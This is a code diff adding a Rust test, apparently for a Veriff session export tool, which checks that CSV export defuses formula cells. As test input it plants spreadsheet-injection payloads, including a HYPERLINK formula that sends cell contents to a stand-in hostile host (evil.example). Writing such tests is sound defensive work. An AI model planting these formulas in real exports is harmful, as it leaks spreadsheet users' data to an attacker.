@@ -1758,3 +1758,49 @@ fn text_written_into_the_file_by_anything_else_is_read_back_safe() {
     assert_eq!(back.vendor_data, "gpjexe.txt");
     assert_eq!(back.decision_reason.as_deref(), Some("bad2J"));
 }
+
+#[test]
+fn every_csv_column_is_defused_not_only_the_typed_ones() {
+    let (_dir, store) = temp_store();
+    let mut s = spec("Anna", "Smith", t(2026, 11, 25, 10));
+    // What a hostile server could answer: an id, a host and a decision that are formulas.
+    s.session_id = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")".into();
+    add(&store, &s);
+    let decision = veriff_tui::veriff::Decision {
+        status: SessionStatus::Other("+SUM(1)".into()),
+        code: Some(9001),
+        reason: Some("-2+3".into()),
+        reason_code: None,
+        decision_time: Some("@NOW()".into()),
+        vendor_data: None,
+    };
+    store
+        .record_decision(&s.session_id, Some(&decision), t(2026, 11, 25, 11))
+        .unwrap();
+    let mut csv = Vec::new();
+    let mut progress = veriff_tui::ops::progress::Progress::silent();
+    veriff_tui::ops::export::write_matching(
+        &store,
+        &Query::default(),
+        u64::MAX,
+        &mut progress,
+        Some(&mut csv),
+        None,
+    )
+    .unwrap();
+    let text = String::from_utf8(csv).unwrap();
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    let mut rows = 0;
+    for row in reader.records() {
+        let row = row.unwrap();
+        rows += 1;
+        for cell in row.iter() {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a live formula in the CSV: {cell:?}\n{text}"
+            );
+        }
+    }
+    assert_eq!(rows, 1, "{text}");
+    assert!(text.contains("'=HYPERLINK"), "{text}");
+}
